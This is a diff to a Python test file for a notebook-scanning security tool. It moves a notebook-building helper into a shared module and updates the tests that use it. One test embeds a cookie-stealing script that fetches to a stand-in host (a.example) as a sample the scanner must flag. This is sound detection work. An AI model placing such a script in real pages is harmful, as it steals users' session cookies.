@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from inspect_samples import found, look, verdict
+from inspect_samples import found, look, notebook, verdict
 
 from watchword.inspect import inspect_path
 from watchword.inspect.facts import Verdict
@@ -144,12 +144,6 @@ def test_rows_of_data_are_read_quickly_and_a_way_out_among_them_is_told() -> Non
 # -- notebooks --------------------------------------------------------------------------------------------------------
 
 
-def _notebook(*cells: str, output: str = "") -> bytes:
-    outputs = [{"output_type": "display_data", "data": {"text/html": [output]}}] if output else []
-    made = [{"cell_type": "code", "source": cell.splitlines(keepends=True), "outputs": outputs} for cell in cells]
-    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": made}).encode()
-
-
 @pytest.mark.parametrize(
     ("cell", "rule"),
     [
@@ -161,20 +155,20 @@ def _notebook(*cells: str, output: str = "") -> bytes:
 )
 def test_a_cell_of_an_attack_is_told(cell: str, rule: str) -> None:
     """Commands behind magics, hidden code and unusual programs are told with the cell's number."""
-    assert rule in found(_notebook("x = 1", cell), "demo.ipynb")
+    assert rule in found(notebook("x = 1", cell), "demo.ipynb")
 
 
 def test_a_script_in_an_output_that_sends_is_told_and_a_plot_is_not() -> None:
     """Plots bring scripts with them; what reads cookies or fetches from elsewhere is no plot."""
-    assert found(_notebook("x", output="<script>fetch('https://a.example/?c=' + document.cookie)</script>"), "a.ipynb")
-    assert not found(_notebook("x", output="<div id=p></div><script>Plotly.newPlot('p', [1])</script>"), "a.ipynb")
+    assert found(notebook("x", output="<script>fetch('https://a.example/?c=' + document.cookie)</script>"), "a.ipynb")
+    assert not found(notebook("x", output="<div id=p></div><script>Plotly.newPlot('p', [1])</script>"), "a.ipynb")
 
 
 def test_ordinary_notebooks_are_silent() -> None:
     """Installing, fetching, plotting, magics and broken cells raise no alarm."""
     cells = ["!pip install torch", "%matplotlib inline\nimport torch", "files = !ls\nprint(files)", "def broken(:",
              "import subprocess\nsubprocess.run(['git', 'clone', 'x'])", "%%timeit\nx = eval('1')"]  # fmt: skip
-    assert found(_notebook(*cells), "demo.ipynb") == set()
+    assert found(notebook(*cells), "demo.ipynb") == set()
 
 
 # -- secrets ----------------------------------------------------------------------------------------------------------
